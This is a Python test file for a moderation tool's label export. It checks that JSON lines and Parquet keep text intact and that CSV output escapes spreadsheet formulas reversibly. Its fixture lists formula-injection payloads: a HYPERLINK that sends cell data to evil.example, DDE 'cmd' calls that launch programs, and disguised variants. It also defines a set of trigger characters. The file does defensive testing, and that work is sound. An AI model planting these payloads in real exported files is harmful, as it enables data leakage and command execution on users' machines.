"""Trial 20. Promise: an export runs nowhere and loses nothing.

JSON lines and Parquet hold the text as it was; CSV marks what a spreadsheet would run, reversibly.
"""

import csv
import hashlib
import json
from pathlib import Path

import pytest
from pyarrow import parquet

from moderation.models import User
from moderation.operations.labels import export_write
from moderation.operations.posts.incoming_post import IncomingAuthor
from moderation.queries.labels.labels import LabelFilter
from tests.moderation.conftest import Case_, Later, judge

CELLS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "'already marked",
    '"quoted", and a comma; and a ; too',
    "two\nlines\r\nand\u2028a third\u0085fourth",
    '{"label": 0}\n{"label": 0}',
]

RUN_BY_SPREADSHEETS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.fixture
def decided(open_case: Case_, moderator: User, later: Later) -> None:
    for number, cell in enumerate(CELLS):
        author = IncomingAuthor(external_id=cell[:150], display_name=cell)
        case = open_case(text=f"{cell} number {number}", author=author)
        judge(case, moderator, at=later(3 + number))


def test_hostile_cells_come_back_letter_by_letter(decided: None, tmp_path: Path, later: Later) -> None:
    out = tmp_path / "labels.jsonl"
    manifest = export_write.write(out=out, wanted=LabelFilter(), at=later(99))

    lines = out.read_bytes().split(b"\n")

    assert lines.pop() == b""
    rows = [json.loads(line) for line in lines]
    assert [row["text"] for row in rows] == [f"{cell} number {number}" for number, cell in enumerate(CELLS)]
    assert [row["record"]["author"]["display_name"] for row in rows] == CELLS
    assert {row["label"] for row in rows} == {1}
    assert manifest["sha256"] == hashlib.sha256(out.read_bytes()).hexdigest()


def test_no_cell_of_a_csv_runs_and_each_comes_back(decided: None, tmp_path: Path, later: Later) -> None:
    out = tmp_path / "labels.csv"
    export_write.write(out=out, wanted=LabelFilter(), at=later(99), form="csv")

    with out.open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))

    assert not [cell for row in rows for cell in row.values() if cell[:1] in RUN_BY_SPREADSHEETS]
    texts = [row["text"].removeprefix("'") for row in rows]
    assert texts == [f"{cell} number {number}" for number, cell in enumerate(CELLS)]
    assert [json.loads(row["record"])["author"]["display_name"] for row in rows] == CELLS


def test_parquet_is_untouched(decided: None, tmp_path: Path, later: Later) -> None:
    out = tmp_path / "labels.parquet"
    export_write.write(out=out, wanted=LabelFilter(), at=later(99), form="parquet")

    texts = parquet.read_table(out)["text"].to_pylist()

    assert texts == [f"{cell} number {number}" for number, cell in enumerate(CELLS)]
